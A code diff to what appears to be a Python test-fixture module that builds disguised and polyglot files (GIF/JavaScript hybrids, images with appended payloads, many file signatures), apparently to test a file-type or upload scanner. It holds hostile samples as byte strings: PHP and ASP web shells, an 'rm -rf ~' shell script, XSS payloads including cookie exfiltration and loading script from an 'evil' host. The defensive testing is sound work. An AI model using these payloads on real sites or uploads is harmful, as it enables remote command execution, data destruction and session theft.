@@ -20,6 +20,21 @@ ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHL", 2, 62, 1) + by
 HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
 PHP = b"<?php system($_GET['c']); ?>"
 JAVA = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)
+SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
+HTA = b"<hta:application id=x><script language=vbscript>x = 1</script>"
+WASM = b"\0asm\x01\0\0\0" + bytes(30)
+
+
+CODE = (
+    b"=1;alert(1)",
+    b'=window["x"]=1',
+    b'=0;fetch("//x")',
+    b'=0;new Image().src="//x/"+document["cookie"]',
+    b'=0\nimport("//evil/x.js")',
+    b"=0,location=name",
+    b"[0];x.y.z`a`",
+)
+"""What makes a script of a picture, with and without calls of well-known names."""
 
 
 def seven_zip() -> bytes:
@@ -64,6 +79,78 @@ def second_files() -> dict[str, bytes]:
         "rtf": b"{\\rtf1\\ansi hello}",
         "flash": b"FWS\x0a" + bytes(60),
         "shell": b"#!/bin/sh\nrm -rf ~\n",
+    }
+
+
+def further_files() -> dict[str, bytes]:
+    """More of them: signatures that begin with padding, marks at the end, text that a program or a server runs."""
+    icon = b"\0\0\x01\0\x01\0" + struct.pack("<4B2H2L", 16, 16, 0, 0, 1, 32, 40, 22) + bytes(40)
+    disc = bytearray(40_000)
+    disc[0x8000:0x8007] = b"\x01CD001\x01"
+    return {
+        "wasm": WASM,
+        "icon": icon,
+        "iso": bytes(disc),
+        "pcapng": b"\n\r\r\n\x1c\0\0\0\x4d\x3c\x2b\x1a\x01\0\0\0" + b"\xff" * 8 + b"\x1c\0\0\0",
+        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 " + bytes(20),
+        "dicom": bytes(128) + b"DICM\x02\0\0\0UL\x04\0" + bytes(40),
+        "dmg": bytes(200) + b"koly" + struct.pack(">LL", 4, 512) + bytes(500),
+        "vhd": bytes(1024) + b"conectix" + struct.pack(">LL", 2, 0x10000) + bytes(496),
+        "shortcut": SHORTCUT,
+        "help": b"ITSF\x03\0\0\0`\0\0\0" + bytes(80),
+        "onenote": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100),
+        "wim": b"MSWIM\0\0\0\xd0\0\0\0" + bytes(200),
+        "squashfs": b"hsqs" + bytes(92),
+        "cpio": b"070701" + b"0" * 86 + b"00" + b"0000000B" + b"0" * 8 + b"TRAILER!!!\0",
+        "lzh": b"\x21\0-lh5-" + bytes(40),
+        "zstd": b"\x28\xb5\x2f\xfd\x04\0" + bytes(20),
+        "postscript": b"%!PS-Adobe-3.0\nshowpage\n",
+        "hta": HTA,
+        "page": b"<body onload=alert(1)>",
+        "picture of a page": b"<img src=x onerror=alert(1)>",
+        "asp": b'<%@ language="vbscript" %><% execute(request("c")) %>',
+        "short php": b"<?=`$_GET[0]`?>",
+        "batch": b"\r\n@echo off\r\ncalc.exe\r\n",
+        "vbs": b'\r\nCreateObject("WScript.Shell").Run "calc"\r\n',
+        "javascript": b"\n/*x*/alert(1)//",
+        "python": b'\nimport os\nos.system("id")\n',
+        "web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n",
+    }
+
+
+def unlisted_files() -> dict[str, bytes]:
+    """Formats that have no line in any table of the service."""
+    noise = bytes(range(1, 32))
+    return {
+        "python bytecode": b"\x61\x0d\x0d\x0a" + bytes(4) + noise + bytes(40),
+        "e-book": b"a".ljust(60, b"\0") + b"BOOKMOBI" + noise + bytes(60),
+        "event log": b"ElfFile\0" + bytes(24) + b"\x80\0\0\0\x01\0\x03\0" + bytes(60),
+        "scene": b"BLENDER-v280RENDH" + noise + bytes(60),
+        "model": b"glTF\x02\0\0\0" + bytes(60),
+        "encrypted disk": b"LUKS\xba\xbe\0\x01aes" + bytes(60),
+        "torrent": b"d8:announce35:udp://tracker.example.org:80" + noise,
+        "program database": b"Microsoft C/C++ MSF 7.00\r\n\x1aDS\0\0\0" + bytes(60),
+    }
+
+
+SEPARATORS = {
+    "": b"",
+    "zeros ": bytes(64),
+    "lines ": b"\r\n\r\n",
+    "ones ": b"\xff" * 16,
+    "junk ": b"junk ",
+    "noise ": bytes(range(160, 200)) * 3,
+}
+
+
+def joined() -> dict[str, bytes]:
+    """A second file behind a whole one, however far, and whatever stands between them."""
+    seconds = second_files() | further_files() | unlisted_files()
+    return {
+        f"{first}+{between}{second}": data + separator + payload
+        for first, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "pdf": pdf()}.items()
+        for between, separator in SEPARATORS.items()
+        for second, payload in seconds.items()
     }
 
 
@@ -116,6 +203,11 @@ def scripts() -> Iterator[tuple[str, bytes]]:
     yield "gif+js header", b"GIF89a=1;alert(1)//"
     yield "gif+js behind", gif(width=0x2A2F) + b"*/=1;alert(1)"
     yield "gif+js comment", gif(b"*/=1;alert(document.domain)/*", width=0x2A2F)
+    for number, code in enumerate(CODE):
+        yield f"gif+js {number}", gif(width=0x2A2F) + b"*/" + code
+    yield "gif+js assigned", b"GIF89a=1/*" + gif(b"*/;fetch(name)//")[10:]
+    yield "gif+js string", b"GIF89a=`" + gif(width=0x603D)[8:] + b"`;fetch(name)"
+    yield "gif+js template", gif(width=0x60) + b"`;function GIF89a(){fetch(name)}"
     yield "jpg+js", b"\xff\xd8\xff\xe0/*" + jpeg()[6:20].ljust(0x2F2A - 2, b"\0") + jpeg()[20:] + b"*/=alert(1)/*"
     yield "html+pdf", HTML + b"\n" + pdf()
     yield "sh+pdf", b"#!/bin/sh\nexit\n" + pdf()
